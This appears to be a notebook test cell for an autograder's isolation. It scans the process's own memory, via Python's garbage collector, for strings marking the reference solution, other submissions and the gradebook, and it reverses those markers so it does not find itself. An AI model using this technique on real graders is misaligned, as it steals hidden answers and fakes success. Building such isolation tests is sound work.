# %% [markdown]
# Reads its own memory, byte by byte, for the text of the reference, of another submission and of the gradebook.
# expect: graded

# %%
import ctypes
import gc

# written backwards, so that this cell is not what it finds
needles = [
    bytes(reversed(word))
    for word in (b"{{TERCES}}", b"noituloS NIGEB", b"stset_neddih_tuohtiw", b"NOITULOS DNE ###")
]
gc.unfreeze()
step, starts = 1 << 18, set()
for thing in gc.get_objects():
    starts.add(id(thing) // step)
    for other in gc.get_referents(thing):
        starts.add(id(other) // step)
print("TRIED", len(starts) > 50)
texts = 0
for thing in gc.get_objects():
    for other in gc.get_referents(thing):
        if isinstance(other, str) and len(other) > 20:
            texts += 1
            data = other.encode("utf-8", "replace")
        elif isinstance(other, bytes):
            data = other
        else:
            continue
        if any(needle in data for needle in needles):
            print("SUCCEEDED", data[:200])
print(texts > 100)
